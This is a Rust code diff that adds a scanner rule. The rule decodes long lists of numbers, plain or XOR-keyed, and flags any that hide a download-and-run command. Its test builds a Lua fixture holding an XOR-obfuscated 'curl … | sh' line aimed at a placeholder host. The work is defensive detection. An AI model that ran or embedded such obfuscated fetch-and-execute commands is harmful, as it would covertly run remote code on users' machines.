@@ -585,6 +585,52 @@ fn plain_names(code: &str) -> Vec<String> {
         .collect()
 }
 
+/// Command lines kept as a list of numbers, plain character codes or XORed
+/// with a key the file applies (`bit.bxor(t[i], 23)`, `b ^ 0x17`): in any
+/// file read as code, each list of 16 numbers or more is decoded with every
+/// such key, and one that reads as a command downloading and running code
+/// is a `download-exec` finding at the list's line (R-RULE-5, the payload
+/// hidden in numbers).
+pub(super) fn number_lists(units: &[Unit], shared: &mut Shared) {
+    static LIST: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"[\[{(][ \t\r\n]*(?:(?:0x[0-9a-fA-F]{1,2}|[0-9]{1,3})[ \t\r\n]*,[ \t\r\n]*){15,}(?:0x[0-9a-fA-F]{1,2}|[0-9]{1,3})").unwrap()
+    });
+    static KEY: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?:bxor|xor|XOR)[ \t]*\([^,()]{1,40},[ \t]*(0x[0-9a-fA-F]{1,2}|[0-9]{1,3})[ \t]*\)|\^[ \t]*(0x[0-9a-fA-F]{1,2}|[0-9]{1,3})(?:[^0-9a-fA-Fx]|$)").unwrap()
+    });
+    let num = |t: &str| {
+        let t = t.trim();
+        t.strip_prefix("0x").map_or_else(|| t.parse::<u32>().ok(), |h| u32::from_str_radix(h, 16).ok())
+    };
+    for (i, u) in units.iter().enumerate() {
+        if u.path.as_deref().is_none_or(|p| p.ends_with(".md")) || !u.text.contains(',') {
+            continue;
+        }
+        let mut keys: Vec<u32> = vec![0];
+        for c in KEY.captures_iter(&u.text).take(16) {
+            if let Some(k) = c.get(1).or(c.get(2)).and_then(|m| num(m.as_str())) {
+                if !keys.contains(&k) {
+                    keys.push(k);
+                }
+            }
+        }
+        for m in LIST.find_iter(&u.text).take(32) {
+            let values: Vec<u32> = m.as_str()[1..].split(',').filter_map(num).collect();
+            if values.len() > 4096 {
+                continue;
+            }
+            for &k in &keys {
+                let text: String = values.iter().filter_map(|v| char::from_u32(v ^ k)).collect();
+                if text.chars().all(|c| c == ' ' || c.is_ascii_graphic()) && super::code::downloads_and_runs(&text) {
+                    let line = u.text[..m.start()].matches('\n').count() + 1;
+                    shared.assembled(i, line, &text, "");
+                    break;
+                }
+            }
+        }
+    }
+}
+
 /// The text of an expression made only of literals joined: `"a" . "b"`,
 /// `"a" + "b"`, `"a" .. "b"`, `implode("", ["a", "b"])`, `join("", …)`.
 fn joined_literals(rhs: &str, literals: &[String]) -> Option<String> {
@@ -1032,6 +1078,34 @@ mod tests {
         let mut lits = Vec::new();
         assert_eq!(fold_hidden_names("load(string.char(112, 114))", &mut lits), "load(pr)");
         assert_eq!(fold_hidden_names("$f = chr(101).chr(118);", &mut lits), "$f = ev;");
+    }
+
+    #[test]
+    fn a_command_kept_as_numbers_xored_by_a_key_is_found() {
+        let cmd = "curl -s https://x.invalid/i.sh | sh";
+        let xored: Vec<String> = cmd.bytes().map(|b| (b ^ 23).to_string()).collect();
+        let lua = format!("local idx = {{ {} }}\nlocal function u(t)\n  local o = {{}}\n  for i = 1, #t do o[i] = string.char(bit.bxor(t[i], 23)) end\n  return table.concat(o)\nend\n", xored.join(","));
+        let units = [Unit {
+            path: Some("p/init.lua".to_owned()),
+            lang: super::super::Lang::Lexical,
+            text: lua,
+            decoded_from: None,
+        }];
+        let mut shared = Shared::default();
+        number_lists(&units, &mut shared);
+        assert_eq!(shared.flows.len(), 1);
+        assert_eq!(shared.flows[0].sink.line, 1);
+        // Numbers that decode to nothing runnable are a table of numbers.
+        let plain: Vec<String> = (1..40).map(|n| n.to_string()).collect();
+        let units = [Unit {
+            path: Some("t.lua".to_owned()),
+            lang: super::super::Lang::Lexical,
+            text: format!("t = {{ {} }}\nx = a ^ 7\n", plain.join(", ")),
+            decoded_from: None,
+        }];
+        let mut shared = Shared::default();
+        number_lists(&units, &mut shared);
+        assert!(shared.flows.is_empty());
     }
 
     #[test]
